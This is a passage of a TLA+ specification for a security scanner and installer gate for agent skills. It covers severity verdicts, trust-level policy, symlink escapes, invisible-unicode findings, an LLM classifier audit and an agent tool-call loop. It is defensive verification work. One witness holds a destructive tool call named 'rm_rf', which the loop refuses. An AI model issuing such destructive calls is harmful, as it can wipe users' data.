    /\ loop' = [loop EXCEPT !.pc = "done", !.turns_used = loop.max_turns,
                            !.finished_naturally = FALSE, !.ended_by = "max_turns"]
    /\ UNCHANGED <<skill_dir, charOrder, prev, res, now, pending, out, path_is_dir>>

NextLoop ==
    \/ \E response \in LlmResponses : LlmCall(response)
    \/ \E outcome \in ToolOutcomes : ToolStep(outcome)
    \/ MaxTurnsReached

\* One run of the agent loop.
SpecLoop == InitLoop /\ [][NextLoop]_vars

\* The run when every awaited call - chat_completion, the tool executor -
\* comes back.
SpecLoopFair == SpecLoop /\ WF_vars(NextLoop)

\* ------------------------------------------------------------ properties
Decided == out.op = "should_allow_install"
Audited == out.op = "llm_audit_skill"

\* The severity order of verdicts: safe < caution < dangerous.
VerdictRank(v) == IF v = "safe" THEN 0 ELSE IF v = "caution" THEN 1 ELSE 2

\* C1: _determine_verdict gives safe for the empty list, dangerous for a list
\* with at least one critical finding and caution for every other list, so a
\* non-empty list never gives safe.
C1_VerdictBySeverity ==
    out.op = "_determine_verdict" =>
        LET fs == out.static.findings
        IN  /\ (fs = <<>> => out.verdict = "safe")
            /\ (fs # <<>> /\ (\E i \in 1..Len(fs) : fs[i].severity = "critical")
                    => out.verdict = "dangerous")
            /\ (fs # <<>> /\ (\A i \in 1..Len(fs) : fs[i].severity # "critical")
                    => out.verdict = "caution")

\* Only medium and low findings, and the verdict is caution.
C1_Witness ==
    /\ out.op = "_determine_verdict"
    /\ out.static.findings # <<>>
    /\ \A i \in 1..Len(out.static.findings) :
           out.static.findings[i].severity \in {"medium", "low"}
    /\ out.verdict = "caution"

\* C2: with force false, a dangerous verdict is blocked at every trust level,
\* builtin included, whatever the table says.
C2_DangerousBlockedUnforced ==
    Decided /\ out.static.verdict = "dangerous" /\ ~out.force
        => ~out.raised /\ ~out.allowed

\* builtin + dangerous, not forced: blocked although the table says allow.
C2_Witness ==
    /\ Decided
    /\ out.static.trust_level = "builtin"
    /\ out.static.verdict = "dangerous"
    /\ ~out.force
    /\ INSTALL_POLICY["builtin"][VERDICT_INDEX["dangerous"] + 1] = "allow"
    /\ ~out.allowed

\* C3: force never overrides a dangerous verdict: a dangerous verdict is
\* blocked at every trust level, with force too.
C3_DangerousBlockedAlways ==
    Decided /\ out.static.verdict = "dangerous" => ~out.allowed

\* The entries of the policy table that say allow, for the verdicts safe and
\* caution.
AllowedByTable(trust, verdict) ==
    \/ trust \in {"builtin", "trusted"} /\ verdict \in {"safe", "caution"}
    \/ trust \in {"community", "agent-created"} /\ verdict = "safe"

\* C4: for the four trust levels and the verdicts safe and caution, the
\* install is allowed exactly when the table entry is allow or force is true.
C4_TableOrForce ==
    /\ Decided
    /\ out.static.trust_level \in {"builtin", "trusted", "community", "agent-created"}
    /\ out.static.verdict \in {"safe", "caution"}
    => /\ ~out.raised
       /\ out.allowed <=>
              (AllowedByTable(out.static.trust_level, out.static.verdict) \/ out.force)

\* A block of the table overridden by force.
C4_Witness ==
    /\ Decided
    /\ out.static.trust_level = "agent-created"
    /\ out.static.verdict = "caution"
    /\ out.force
    /\ out.allowed
    /\ out.reason[1] = "Force-installed despite "

\* C5: should_allow_install returns for every trust_level, verdict and force,
\* strings outside the enumerated sets included: it never raises and its
\* reason is not empty.
C5_Total ==
    Decided => /\ ~out.raised
               /\ \E i \in 1..Len(out.reason) : out.reason[i] # ""

\* A decision on a trust level and a verdict outside the enumerated sets.
C5_Witness ==
    /\ Decided
    /\ out.static.trust_level \notin DOMAIN INSTALL_POLICY
    /\ out.static.verdict \notin DOMAIN VERDICT_INDEX
    /\ ~out.raised

\* C6: the result llm_audit_skill returns has a verdict at least as severe as
\* the static result's, whatever the static result and the classifier's reply.
C6_MergeMonotonic ==
    Audited /\ ~out.raised /\ out.static.verdict \in {"safe", "caution", "dangerous"}
        => /\ out.result.verdict \in {"safe", "caution", "dangerous"}
           /\ VerdictRank(out.result.verdict) >= VerdictRank(out.static.verdict)

\* A merge that escalates a caution to dangerous.
C6_Witness ==
    /\ Audited
    /\ out.calls = 1
    /\ ~out.same
    /\ out.static.verdict = "caution"
    /\ out.result.verdict = "dangerous"

\* The replies the claim counts as classifier failures: a failed call, text
\* that is not JSON, JSON that is not an object, an object whose findings is
\* not a list or with a finding whose description is not a string.
ReplyIsFailure(k) ==
    LET r == Responses[k]
        data == JsonLoads(StripFence(r.lines))
        fs == DictGet(data.fields, "findings", JList("", <<>>))
    IN  \/ r.failed
        \/ data.t # "object"
        \/ fs.t # "list"
        \/ \E i \in 1..Len(fs.items) :
               /\ fs.items[i].t = "object"
               /\ "description" \in DOMAIN fs.items[i].fields
               /\ fs.items[i].fields["description"].t # "string"

\* C7: on every classifier failure llm_audit_skill returns the static result
\* itself, unchanged, and raises nothing.
C7_FailureReturnsStatic ==
    Audited /\ out.reply # 0 /\ ReplyIsFailure(out.reply)
        => ~out.raised /\ out.same /\ out.result = out.static

\* C8: with a dangerous static verdict llm_audit_skill returns the static
\* result itself without reading a file or calling the classifier.
C8_DangerousSkipsAudit ==
    /\ Audited /\ out.static.verdict = "dangerous"
           => /\ ~out.raised
              /\ out.calls = 0
              /\ out.reads = {}
              /\ out.same
              /\ out.result = out.static
    /\ pending.active => res.r.verdict # "dangerous"

\* An audit of a dangerous result over a directory that has a scannable file.
C8_Witness ==
    /\ Audited
    /\ out.static.verdict = "dangerous"
    /\ \E i \in 1..Len(skill_dir) : skill_dir[i].suffix \in SCANNABLE_EXTENSIONS

\* C9: for a source that resolves to community, scan_skill then
\* should_allow_install without force allows exactly when the scan has no
\* finding.
C9_CommunityAnyFindingBlocks ==
    /\ Decided
    /\ ~out.force
    /\ res.by = "scan_skill"
    /\ _resolve_trust_level(res.r.source) = "community"
    => /\ out.static = res.r
       /\ ~out.raised
       /\ out.allowed <=> (res.r.findings = <<>>)

\* A community scan whose findings are all low, blocked.
C9_Witness ==
    /\ Decided
    /\ ~out.force
    /\ res.by = "scan_skill"
    /\ res.r.trust_level = "community"
    /\ res.r.findings # <<>>
    /\ \A i \in 1..Len(res.r.findings) : res.r.findings[i].severity = "low"
    /\ ~out.allowed

Scanned == res.by = "scan_skill"

\* pathlib's is_relative_to: the path is the root or lies below it.
UnderRoot(path) ==
    /\ StartsWith(path, SkillRoot)
    /\ (Len(path) = Len(SkillRoot) \/ path[Len(SkillRoot) + 1] = "/")

\* A symlink whose resolved target is not under the skill root.
Escapes(f) == f.is_symlink /\ f.resolve_exc = "" /\ ~UnderRoot(f.resolved)

\* C11: two scans of the unchanged directory give the same findings, in the
\* same order and with the same content (match text included), whatever order
\* the directory walk and the iteration over INVISIBLE_CHARS take.
C11_RescanIdentical ==
    prev.by = "scan_skill" /\ res.by = "scan_skill" /\ prev.r.source = res.r.source
        => prev.r.findings = res.r.findings

\* C12: every symlink whose resolved target is not under the skill root gives
\* a symlink_escape finding (critical, traversal) and the verdict dangerous,
\* a target in a sibling directory whose name extends the root's included.
C12_EscapeIsCritical ==
    Scanned =>
        \A i \in DOMAIN skill_dir :
            Escapes(skill_dir[i]) =>
                /\ \E k \in DOMAIN res.r.findings :
                       /\ res.r.findings[k].pattern_id = "symlink_escape"
                       /\ res.r.findings[k].severity = "critical"
                       /\ res.r.findings[k].category = "traversal"
                       /\ res.r.findings[k].file = skill_dir[i].path
                /\ res.r.verdict = "dangerous"

\* C13: scan_skill returns a ScanResult for every directory and never raises;
\* a file that cannot be read or decoded has no pattern finding.
C13_ScanNeverRaises ==
    out.op = "scan_skill" =>
        /\ ~out.raised
        /\ Scanned
        /\ \A k \in DOMAIN res.r.findings : \A i \in DOMAIN skill_dir :
               /\ res.r.findings[k].file = skill_dir[i].path
               /\ (~skill_dir[i].readable \/ ~skill_dir[i].utf8)
               => res.r.findings[k].line = 0

\* The identifiers the claim counts as trusted: the text begins with
\* "openai/skills" or with "anthropics/skills".
TrustedByPrefix(source) ==
    /\ Len(source) >= 2
    /\ source[1] \in {"openai", "anthropics"}
    /\ source[2] = "/skills"

RowRank(row) ==
    CASE row.sev = "CRITICAL" -> 0 [] row.sev = "HIGH" -> 1
      [] row.sev = "MEDIUM" -> 2 [] row.sev = "LOW" -> 3 [] OTHER -> 4

\* C16: the report has a header with skill name, source, trust level and
\* verdict, then one row per finding in the order critical, high, medium, low
\* (findings of one severity in their order in result.findings), and a
\* decision line that states what should_allow_install gives without force.
C16_ReportOrderAndDecision ==
    out.op = "format_scan_report" =>
        LET t == out.report
            r == out.static
            d == should_allow_install(r, FALSE)
        IN  /\ ~out.raised
            /\ t.header.skill_name = r.skill_name
            /\ t.header.source = r.source
            /\ t.header.trust_level = r.trust_level
            /\ t.header.verdict_display = Upper(r.verdict)
            /\ Len(t.rows) = Len(r.findings)
            /\ \A k \in DOMAIN r.findings : \E i \in DOMAIN t.rows :
                   /\ t.rows[i].line = r.findings[k].line
                   /\ t.rows[i].sev = Upper(r.findings[k].severity)
            /\ \A i, j \in DOMAIN t.rows :
                   i < j => \/ RowRank(t.rows[i]) < RowRank(t.rows[j])
                            \/ /\ RowRank(t.rows[i]) = RowRank(t.rows[j])
                               /\ t.rows[i].line < t.rows[j].line
            /\ t.status = (IF d.allowed THEN "ALLOWED" ELSE "BLOCKED")
            /\ t.reason = d.reason
            /\ (r.trust_level \in DOMAIN INSTALL_POLICY /\ r.verdict \in DOMAIN VERDICT_INDEX
                   => (t.status = "ALLOWED"
                          <=> r.verdict # "dangerous"
                              /\ AllowedByTable(r.trust_level, r.verdict)))

\* A report of a low finding followed by a critical one: the critical row is
\* listed first and the decision is a block.
C16_Witness ==
    /\ out.op = "format_scan_report"
    /\ Len(out.static.findings) >= 2
    /\ out.static.findings[1].severity = "low"
    /\ out.static.findings[2].severity = "critical"
    /\ out.report.rows[1].sev = "CRITICAL"
    /\ out.report.rows[1].line = 2
    /\ out.report.status = "BLOCKED"

\* C17: content_hash never raises and hashes the bytes of the readable
\* regular files in sorted path order and nothing else: a symlink adds
\* nothing.
C17_HashOfRegularFiles ==
    out.op = "content_hash" =>
        LET fs == sorted(skill_dir)
        IN  /\ ~out.raised
            /\ out.hash.prefix = "sha256:"
            /\ out.hash.hexlen = 16
            /\ out.hash.hashed =
                   Concat([i \in DOMAIN fs |->
                       IF ~fs[i].is_symlink /\ fs[i].readable
                       THEN ReadBytes(fs[i]) ELSE <<>>])

\* C18: no pattern finding and no invisible_unicode finding of a scan names
\* a symlink that escapes the skill root.
C18_EscapingContentNotScanned ==
    Scanned =>
        \A k \in DOMAIN res.r.findings : \A i \in DOMAIN skill_dir :
            Escapes(skill_dir[i]) /\ res.r.findings[k].file = skill_dir[i].path
                => /\ res.r.findings[k].pattern_id # "invisible_unicode"
                   /\ \A p \in DOMAIN THREAT_PATTERNS :
                          res.r.findings[k].pattern_id # THREAT_PATTERNS[p].pid

\* C19: among the findings scan_file gives for one file (those with a line
\* number), no two share pattern_id and line.
C19_OnePerPatternAndLine ==
    Scanned =>
        \A i, j \in DOMAIN res.r.findings :
            /\ i < j
            /\ res.r.findings[i].line >= 1
            /\ res.r.findings[i].file = res.r.findings[j].file
            => <<res.r.findings[i].pattern_id, res.r.findings[i].line>>
                   # <<res.r.findings[j].pattern_id, res.r.findings[j].line>>

\* A scanned line holding two invisible characters, with its one finding.
C19_Witness ==
    /\ Scanned
    /\ \E i \in DOMAIN skill_dir :
           /\ skill_dir[i] = HiddenMd
           /\ Cardinality(HiddenMd.lines[1].invis) = 2
    /\ Cardinality({ k \in DOMAIN res.r.findings :
                       /\ res.r.findings[k].pattern_id = "invisible_unicode"
                       /\ res.r.findings[k].file = "hidden.md"
                       /\ res.r.findings[k].line = 1 }) = 1

\* C20: every finding of every ScanResult of scan_skill and llm_audit_skill
\* has a match text of at most 120 characters.
C20_MatchAtMost120 ==
    /\ Scanned => \A k \in DOMAIN res.r.findings : res.r.findings[k].match.len <= 120
    /\ Audited /\ ~out.raised
           => \A k \in DOMAIN out.result.findings : out.result.findings[k].match.len <= 120

\* ------------------------------------------------------------ the classifier's findings
\* The findings of a merged result that come from the classifier.
ClassifierFindings ==
    IF out.same THEN <<>>
    ELSE SubSeq(out.result.findings, Len(out.static.findings) + 1, Len(out.result.findings))

\* The items of reply k that are objects with a non-empty description.
DescribedItems(k) ==
    LET data == JsonLoads(StripFence(Responses[k].lines))
        fs == IF data.t = "object"
              THEN DictGet(data.fields, "findings", JList("", <<>>)) ELSE JList("", <<>>)
        items == IF fs.t = "list" THEN fs.items ELSE <<>>
        Described(item) ==
            /\ item.t = "object"
            /\ "description" \in DOMAIN item.fields
            /\ Truthy(item.fields["description"])
    IN  SelectSeq(items, Described)

\* The severity the wrapped finding of an item carries.
WrappedSeverity(item) ==
    IF /\ "severity" \in DOMAIN item.fields
       /\ item.fields["severity"].t = "string"
       /\ item.fields["severity"].text \in {"critical", "high", "medium", "low"}
    THEN item.fields["severity"].text
    ELSE "medium"

\* The wrapping of the classifier's findings, with the file label given.
WrappedAs(file) ==
    Audited /\ out.reply # 0 /\ ~out.raised /\ ~Responses[out.reply].failed =>
        LET items == DescribedItems(out.reply)
            fs == ClassifierFindings
        IN  /\ Len(fs) = Len(items)
            /\ \A i \in DOMAIN fs :
                   /\ fs[i].pattern_id = "llm_audit"
                   /\ fs[i].category = "llm-detected"
                   /\ fs[i].file = file
                   /\ fs[i].line = 0
                   /\ fs[i].severity = WrappedSeverity(items[i])
                   /\ fs[i].match.text = items[i].fields["description"].text

HasScannable ==
    \E i \in DOMAIN skill_dir :
        skill_dir[i].is_file /\ skill_dir[i].suffix \in SCANNABLE_EXTENSIONS

\* C22: llm_audit_skill calls the classifier only when the path - directory
\* or single file - holds scannable content and a model and an API key are
\* configured; when it does not call, it returns the static result itself.
C22_SkipsWithoutContentOrConfig ==
    /\ pending.active =>
           /\ HasScannable
           /\ pending.model # ""
           /\ pending.api_key # ""
    /\ Audited /\ out.calls = 0 => ~out.raised /\ out.same /\ out.result = out.static

\* C23: the text handed to the classifier has at most 15000 characters plus
\* the truncation marker, and ends with the marker exactly when the joined
\* content had more than 15000 characters.
C23_PayloadWithinBudget ==
    pending.active =>
        /\ pending.payload.len <= 15000 + 34
        /\ pending.payload.marker <=> pending.content > 15000
        /\ pending.payload.marker => pending.payload.len = 15000 + 34
        /\ ~pending.payload.marker => pending.payload.len = pending.content

\* A classifier call on a directory whose joined content has 15001
\* characters: the payload is cut and marked.
C23_Witness ==
    /\ pending.active
    /\ path_is_dir
    /\ skill_dir = << OverMd >>
    /\ pending.content = 15001
    /\ pending.payload.marker
    /\ pending.payload.len = 15034

\* The findings of the last scan with the pattern id given.
StructureFindings(pid) ==
    SelectSeq(res.r.findings, LAMBDA f : f.pattern_id = pid)

\* The regular files and symlinks under the root, and the bytes of the
\* non-symlink files.
EntryCount ==
    Cardinality({ i \in DOMAIN skill_dir : skill_dir[i].is_file \/ skill_dir[i].is_symlink })
RegularBytes ==
    SumSizes([i \in DOMAIN skill_dir |->
                 IF skill_dir[i].is_symlink THEN 0 ELSE skill_dir[i].size])

C25_InputNotMutated ==
    Audited =>
        /\ res.r = out.static
        /\ ~out.raised /\ out.result.findings # out.static.findings => ~out.same

\* A successful merge: the result has more findings than the input, which
\* the caller holds unchanged.
C25_Witness ==
    /\ Audited
    /\ ~out.raised
    /\ ~out.same
    /\ Len(out.result.findings) > Len(out.static.findings)
    /\ out.static.findings # <<>>
    /\ res.r = out.static

\* The verdict of a findings list, by its definition: safe for none,
\* dangerous for any critical, caution otherwise.
VerdictOf(findings) ==
    IF findings = <<>> THEN "safe"
    ELSE IF \E i \in DOMAIN findings : findings[i].severity = "critical" THEN "dangerous"
    ELSE "caution"

\* C26: the verdict of every scan_skill result, and of every result
\* llm_audit_skill returns for one, is _determine_verdict of its findings;
\* the clamp of the merge never changes the recomputed verdict.
C26_VerdictMatchesFindings ==
    /\ Scanned =>
           /\ res.r.verdict = _determine_verdict(res.r.findings)
           /\ res.r.verdict = VerdictOf(res.r.findings)
    /\ Audited /\ ~out.raised /\ res.by = "scan_skill" =>
           /\ out.result.verdict = _determine_verdict(out.result.findings)
           /\ out.result.verdict = VerdictOf(out.result.findings)
           /\ ~out.clamped

\* A merge on a caution scan result whose classifier findings are all low.
C26_Witness ==
    /\ Audited
    /\ ~out.raised
    /\ ~out.same
    /\ res.by = "scan_skill"
    /\ out.static.verdict = "caution"
    /\ out.result.verdict = "caution"
    /\ \A i \in DOMAIN ClassifierFindings : ClassifierFindings[i].severity = "low"

\* The findings and the verdict field of reply k, as parsed JSON; a reply
\* without the field has JBase("missing").
ReplyField(k, key) ==
    LET data == JsonLoads(StripFence(Responses[k].lines))
    IN  IF data.t = "object" /\ key \in DOMAIN data.fields
        THEN data.fields[key] ELSE JBase("missing")

\* C27: the merge of a reply is the merge of every reply with the same
\* findings list, whatever their verdict fields; a reply with verdict
\* dangerous and no findings returns the static result unchanged.
C27_ReplyVerdictIgnored ==
    Audited /\ out.reply # 0 /\ ~Responses[out.reply].failed /\ ~out.raised =>
        /\ \A k \in 1..Len(Responses) :
               /\ ~Responses[k].failed
               /\ ReplyField(k, "findings") = ReplyField(out.reply, "findings")
               => /\ ~AuditMerge(out.static, Responses[k]).raised
                  /\ AuditMerge(out.static, Responses[k]).result = out.result
        /\ /\ ReplyField(out.reply, "verdict") = JStr("dangerous", 9)
           /\ ReplyField(out.reply, "findings") = JList("", <<>>)
           => out.same /\ out.result = out.static

\* The reply with verdict safe and a critical finding, merged to the result
\* that the reply with verdict dangerous and the same finding gives.
C27_Witness ==
    /\ Audited
    /\ out.reply # 0
    /\ ~out.raised
    /\ ReplyField(out.reply, "verdict") = JStr("safe", 4)
    /\ out.result.verdict = "dangerous"
    /\ \E k \in 1..Len(Responses) :
           /\ ReplyField(k, "verdict") = JStr("dangerous", 9)
           /\ ReplyField(k, "findings") = ReplyField(out.reply, "findings")
           /\ AuditMerge(out.static, Responses[k]).result = out.result

\* ------------------------------------------------------------ the conversation of the agent loop
\* The tool calls of all assistant messages in conversation order, and the
\* tool messages in conversation order.
AllToolCalls ==
    Concat([i \in DOMAIN loop.messages |->
               IF loop.messages[i].role = "assistant" THEN loop.messages[i].tool_calls
               ELSE <<>>])
ToolMessages == SelectSeq(loop.messages, LAMBDA m : m.role = "tool")

\* The position of the last assistant message, 0 when there is none.
LastAssistant ==
    LET at == { i \in DOMAIN loop.messages : loop.messages[i].role = "assistant" }
    IN  IF at = {} THEN 0 ELSE CHOOSE i \in at : \A j \in at : j <= i

\* How many of the tool calls of the assistant message at i have been handled.
Handled(i) ==
    IF loop.pc = "tools" /\ i = LastAssistant THEN loop.next - 1
    ELSE Len(loop.messages[i].tool_calls)

\* C28: each assistant message with tool calls is followed by one tool
\* message per tool call handled so far, in the calls' order and with the
\* call's id, and by nothing else of role tool; at every LLM call and at the
\* return all its calls are handled.
C28_OneToolMessagePerCall ==
    \A i \in DOMAIN loop.messages :
        loop.messages[i].role = "assistant" /\ loop.messages[i].tool_calls # <<>> =>
            LET calls == loop.messages[i].tool_calls
                n == Handled(i)
            IN  /\ loop.pc \in {"llm", "done"} => n = Len(calls)
                /\ Len(loop.messages) >= i + n
                /\ \A j \in 1..n :
                       /\ loop.messages[i + j].role = "tool"
                       /\ loop.messages[i + j].tool_call_id = calls[j].id
                /\ Len(loop.messages) > i + n => loop.messages[i + n + 1].role # "tool"

\* A second LLM call is about to be made after a turn whose tool calls were
\* an unknown tool and a tool called with invalid JSON that raised.
C28_Witness ==
    /\ loop.pc = "llm"
    /\ loop.turn = 1
    /\ InRange(loop.turn, loop.max_turns)
    /\ Len(loop.messages) = 5
    /\ loop.messages[3].tool_calls =
           << ToolCall("call_1", "rm_rf", "object"), ToolCall("call_2", "read_file", "invalid") >>
    /\ loop.messages[4].content = "unknown_tool"
    /\ loop.messages[5].content = "execution_failed"
    /\ loop.messages[5].tool_call_id = "call_2"

\* The tool calls handled so far whose name is not a valid tool name.
UnknownHandled ==
    { k \in 1..Len(ToolMessages) : AllToolCalls[k].name \notin valid_tool_names }

\* C29: no name outside valid_tool_names is handed to handle_function_call;
\* each such call has an error result as its tool message and one ToolError,
\* and the calls after it are handled too.
C29_UnknownToolNotDispatched ==
    /\ \A d \in DOMAIN loop.dispatched : loop.dispatched[d].name \in valid_tool_names
    /\ Len(ToolMessages) <= Len(AllToolCalls)
    /\ \A k \in UnknownHandled : ToolMessages[k].content = "unknown_tool"
    /\ Cardinality({ e \in DOMAIN loop.tool_errors :
                        loop.tool_errors[e].tool_name \notin valid_tool_names })
           = Cardinality(UnknownHandled)
    /\ \A e \in DOMAIN loop.tool_errors :
           loop.tool_errors[e].tool_name \notin valid_tool_names
               => loop.tool_errors[e].error = "Unknown tool"
    /\ loop.pc \in {"llm", "done"} => Len(ToolMessages) = Len(AllToolCalls)

\* An unknown tool was refused and the call after it dispatched.
C29_Witness ==
    /\ Len(loop.tool_errors) = 1
    /\ loop.tool_errors[1].tool_name = "rm_rf"
    /\ loop.tool_errors[1].error = "Unknown tool"
    /\ Len(loop.dispatched) = 1
    /\ loop.dispatched[1].name = "read_file"
    /\ Len(ToolMessages) = 2
    /\ ToolMessages[1].content = "unknown_tool"
    /\ ToolMessages[2].content = "ok"

\* The AgentResult accounts for the LLM calls made.
LoopAccounting ==
    /\ loop.calls <= loop.max_turns
    /\ loop.pc = "done" =>
           /\ loop.turns_used = loop.calls
           /\ loop.turns_used <= loop.max_turns
           /\ loop.finished_naturally <=> loop.ended_by = "no_tool_calls"
           /\ loop.finished_naturally <=>
                  /\ loop.messages[Len(loop.messages)].role = "assistant"
                  /\ loop.messages[Len(loop.messages)].tool_calls = <<>>
           /\ loop.ended_by \in {"max_turns", "api_error", "empty"} => ~loop.finished_naturally

====
